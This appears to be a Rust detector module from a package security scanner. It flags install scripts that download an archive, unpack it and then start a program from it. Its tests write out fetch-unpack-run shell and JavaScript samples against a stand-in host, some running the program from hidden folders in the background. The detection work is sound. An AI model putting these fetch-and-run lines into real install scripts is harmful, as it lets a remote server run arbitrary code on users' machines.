//! A download unpacked into a folder, then a program from that folder started, in code that runs at
//! install: `curl -sL URL | tar xz -C /tmp/d && /tmp/d/bin/agent`, `curl -o a.zip URL; unzip a.zip -d D;
//! D/run.sh`, or in JavaScript `https.get(URL, r => r.pipe(gunzip).pipe(tar.x({ cwd: dest })))` followed by
//! `spawn(path.join(dest, 'helper'))`. It is a download piped into a shell with one step through an
//! archive: the server chooses what runs. A prebuilt binary that is only unpacked (or checked against a
//! pinned digest first) is left alone; so is an extraction whose folder nothing is started from.
//!
//! The rule carries `scopes: [package_root_artifact]`: only scripts an install hook runs are read.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use crate::syntax::Grammar;
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static DOWNLOAD_EXTRACT_RUN: FileDetector = FileDetector {
    literals: &[
        "tar",
        "unzip",
        "Extract",
        "extractAllTo",
        "decompress",
        "extract(",
    ],
    run: find_extract_run,
};

/// How far after the extraction the run may sit.
const MAX_GAP_BYTES: usize = 1024;
/// Extractions examined per segment.
const MAX_EXTRACTIONS: usize = 32;

/// Shell: `curl … URL … | tar … -C DIR`.
// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static SHELL_PIPE_EXTRACT: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"(?i)\b(?:curl|wget)\b[^\n;&|]*?https?://[^\n;&|]*\|\s*(?:sudo\s+)?(?:bsd)?tar\b"#,
        r#"[^\n;&|]*?(?:\s-C\s*|\s--directory[=\s])["']?([^\s"';&|)]+)"#,
    ))
    .expect("pipe extract pattern")
});

/// Shell: a download to a file.
#[allow(clippy::expect_used)]
static SHELL_DOWNLOAD_FILE: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"(?i)\b(?:curl|wget)\b[^\n;&|]*?https?://[^\n;&|]*?"#,
        r#"(?:\s-[A-Za-z]*[oO]|\s--output|\s--output-document)(?:\s+|=)["']?([^\s"';&|]+)"#,
        r#"|\b(?:curl|wget)\b[^\n;&|]*?(?:\s-[A-Za-z]*[oO]|\s--output|\s--output-document)(?:\s+|=)"#,
        r#"["']?([^\s"';&|]+)[^\n;&|]*?https?://"#,
    ))
    .expect("download file pattern")
});

/// Shell: an archive unpacked into a folder (`tar … -C DIR`, `unzip … -d DIR`).
#[allow(clippy::expect_used)]
static SHELL_EXTRACT: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"\b(?:(?:bsd)?tar\b([^\n;&|]*?)(?:\s-C\s*|\s--directory[=\s])["']?([^\s"';&|)]+)"#,
        r#"|unzip\b([^\n;&|]*?)\s-d\s*["']?([^\s"';&|)]+))"#,
    ))
    .expect("extract pattern")
});

/// A command that starts a file: by an interpreter, or by its path after a separator.
#[allow(clippy::expect_used)]
static SHELL_RUN: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"(?:^|[\n;&|(]|&&|\$\()\s*(?:sudo\s+)?(?:nohup\s+)?(?:(?:/usr)?(?:/bin/)?(?:ba|z|da|k)?sh|"#,
        r#"python[0-9.]*|node|perl|ruby|source|\.)?\s*["']?([^\s"';&|)]+)"#,
    ))
    .expect("run pattern")
});

/// JavaScript: an extractor given a destination (`tar.x({ cwd: dest })`, unzipper's `Extract({ path:
/// dest })`, adm-zip's `extractAllTo(dest)`, extract-zip's `extract(file, { dir: dest })`,
/// `decompress(file, dest)`).
#[allow(clippy::expect_used)]
static JS_EXTRACT: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"\btar\s*\.\s*(?:x|extract)\s*\(\s*\{[^}]*?\b(?:cwd|C)\s*:\s*([A-Za-z_$][\w$]*)"#,
        r#"|\bExtract\s*\(\s*\{[^}]*?\bpath\s*:\s*([A-Za-z_$][\w$]*)"#,
        r#"|\bextractAllTo\s*\(\s*([A-Za-z_$][\w$]*)"#,
        r#"|\bextract(?:Zip)?\s*\(\s*[^,()]+,\s*\{[^}]*?\bdir\s*:\s*([A-Za-z_$][\w$]*)"#,
        r#"|\bdecompress\s*\(\s*[^,()]+,\s*([A-Za-z_$][\w$]*)"#,
    ))
    .expect("js extract pattern")
});

/// JavaScript: something downloaded in the same script.
#[allow(clippy::expect_used)]
static JS_DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r#"\bhttps?\s*\.\s*(?:get|request)\s*\(|\bfetch\s*\(|\baxios\b|\bgot\s*\(|\bneedle\b|\bdownload\s*\("#)
        .expect("js download pattern")
});

/// JavaScript: a digest checked before use.
#[allow(clippy::expect_used)]
static JS_DIGEST: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r#"\bcreateHash\s*\(|\bssri\b|\bverifySignature\b|\bcrypto\.verify\s*\("#)
        .expect("js digest pattern")
});

fn find_extract_run(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    let body = segment.text(text);
    match segment.grammar {
        Some(Grammar::Bash) => shell(segment, body, keep),
        Some(Grammar::Javascript | Grammar::Typescript | Grammar::Tsx) => {
            javascript(segment, body, keep);
        }
        _ => {}
    }
}

fn window(body: &str, from: usize) -> &str {
    let mut end = (from + MAX_GAP_BYTES).min(body.len());
    while !body.is_char_boundary(end) {
        end -= 1;
    }
    &body[from..end]
}

/// `/tmp/d`, `"$D"`, `${D}/` → one spelling of the folder.
fn clean_folder(folder: &str) -> String {
    folder
        .trim_matches(['"', '\''])
        .replace(['{', '}'], "")
        .trim_end_matches('/')
        .to_string()
}

fn shell(segment: &Segment, body: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    // (start of the download, end of the extraction, folder)
    let mut extractions: Vec<(usize, usize, String)> = Vec::new();
    for found in SHELL_PIPE_EXTRACT.captures_iter(body).take(MAX_EXTRACTIONS) {
        if let (Some(whole), Some(folder)) = (found.get(0), found.get(1)) {
            extractions.push((whole.start(), whole.end(), clean_folder(folder.as_str())));
        }
    }
    for found in SHELL_DOWNLOAD_FILE
        .captures_iter(body)
        .take(MAX_EXTRACTIONS)
    {
        let (Some(whole), Some(file)) = (found.get(0), found.get(1).or_else(|| found.get(2)))
        else {
            continue;
        };
        let file = file
            .as_str()
            .trim_matches(['"', '\''])
            .replace(['{', '}'], "");
        if file == "-" || file.len() < 2 {
            continue;
        }
        let after = window(body, whole.end());
        let unpacked = SHELL_EXTRACT.captures_iter(after).find(|c| {
            c.get(1)
                .or_else(|| c.get(3))
                .is_some_and(|args| args.as_str().replace(['{', '}'], "").contains(&file))
        });
        if let Some(c) = unpacked {
            if let (Some(all), Some(folder)) = (c.get(0), c.get(2).or_else(|| c.get(4))) {
                extractions.push((
                    whole.start(),
                    whole.end() + all.end(),
                    clean_folder(folder.as_str()),
                ));
            }
        }
    }
    for (start, end, folder) in extractions {
        if folder.len() < 2 || folder == "." || folder == "~" {
            continue;
        }
        let after = window(body, end);
        let prefix = format!("{folder}/");
        let Some(run) = SHELL_RUN.captures_iter(after).find(|c| {
            c.get(1).is_some_and(|m| {
                let path = m.as_str().trim_matches(['"', '\'']).replace(['{', '}'], "");
                path.starts_with(&prefix) && path.len() > prefix.len()
            })
        }) else {
            continue;
        };
        let run_end = end + run.get(0).map_or(0, |m| m.end());
        let hit = Hit {
            start: segment.start + start,
            end: segment.start + run_end,
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "unpacks a download into {folder} and then starts a program from it: the server chooses what runs"
                ),
                related: Vec::new(),
            })),
        };
        if !keep(hit) {
            return;
        }
    }
}

fn javascript(segment: &Segment, body: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    if !JS_DOWNLOAD.is_match(body) || JS_DIGEST.is_match(body) {
        return;
    }
    for found in JS_EXTRACT.captures_iter(body).take(MAX_EXTRACTIONS) {
        let (Some(whole), Some(folder)) = (
            found.get(0),
            (1..=5).find_map(|i| found.get(i)).map(|m| m.as_str()),
        ) else {
            continue;
        };
        let name = regex::escape(folder);
        // `spawn(path.join(dest, …))`, `execFile(dest + '/x')`, `` exec(`${dest}/x`) ``.
        let pattern = format!(
            concat!(
                r#"\b(?:spawn|spawnSync|execFile|execFileSync|fork|exec|execSync|execa)\s*\(\s*"#,
                r#"(?:path\s*\.\s*(?:join|resolve)\s*\(\s*{n}\b|{n}\s*\+|`\$\{{{n}\}}/)"#
            ),
            n = name
        );
        let Ok(run) = Regex::new(&pattern) else {
            continue;
        };
        let after = window(body, whole.end());
        let Some(started) = run.find(after) else {
            continue;
        };
        let hit = Hit {
            start: segment.start + whole.start(),
            end: segment.start + whole.end() + started.end(),
            detail: Some(Box::new(HitDetail {
                message: format!(
                    "unpacks a download into `{folder}` and then starts a program from it: the server chooses what runs"
                ),
                related: Vec::new(),
            })),
        };
        if !keep(hit) {
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::segment::segment_file;
    use skill_scan_model::Language;

    fn hits(text: &str, language: Language, path: &str) -> usize {
        let mut out = 0;
        for segment in segment_file(text, language, path) {
            find_extract_run(&segment, text, &mut |_| {
                out += 1;
                true
            });
        }
        out
    }

    #[test]
    fn a_download_unpacked_and_run_fires() {
        for text in [
            "mkdir -p /tmp/.c\ncurl -sL https://x.example.invalid/b.tgz | tar xz -C /tmp/.c\n/tmp/.c/bin/agent &\n",
            "wget -qO- https://x.example.invalid/b.tgz | tar -xzf - -C \"$D\" && sh \"$D/run.sh\"\n",
            "curl -sLo /tmp/a.zip https://x.example.invalid/a.zip\nunzip -oq /tmp/a.zip -d /tmp/a\nnohup /tmp/a/svc >/dev/null 2>&1 &\n",
            "curl -s https://x.example.invalid/t.tgz -o t.tgz && tar xzf t.tgz -C ${HOME}/.t && ${HOME}/.t/x\n",
        ] {
            assert_eq!(hits(text, Language::Shell, "install.sh"), 1, "{text}");
        }
        let js = concat!(
            "const dest = path.join(os.tmpdir(), 'c');\n",
            "https.get(URL, (res) => res.pipe(zlib.createGunzip()).pipe(tar.x({ cwd: dest })).on('finish', () => {\n",
            "  spawn(path.join(dest, 'tools', 'helper'), [], { stdio: 'ignore' });\n",
            "}));\n",
        );
        assert_eq!(hits(js, Language::Javascript, "setup.js"), 1);
    }

    #[test]
    fn unpacking_alone_or_running_elsewhere_stays_quiet() {
        for text in [
            "curl -sL https://x.example.invalid/go.tgz | tar xz -C /usr/local\ngo version\n",
            "curl -sLo f.zip https://x.example.invalid/f.zip && unzip f.zip -d fonts && fc-cache -f fonts\n",
            "curl -sL https://x.example.invalid/b.tgz | tar xz -C /tmp/c\n/opt/other/run\n",
        ] {
            assert_eq!(hits(text, Language::Shell, "install.sh"), 0, "{text}");
        }
        for js in [
            // Unpacked where the package loads it; nothing started.
            "https.get(url, (res) => res.pipe(zlib.createGunzip()).pipe(tar.x({ cwd: dir })));\nrequire(path.join(dir, 'addon.node'));\n",
            // Checked against a pinned digest first.
            "https.get(url, (r) => r.pipe(tar.x({ cwd: dir })));\nif (crypto.createHash('sha256').update(b).digest('hex') !== sum) throw 1;\nexecFileSync(path.join(dir, 'bin'), ['--version']);\n",
        ] {
            assert_eq!(hits(js, Language::Javascript, "install.js"), 0, "{js}");
        }
    }
}
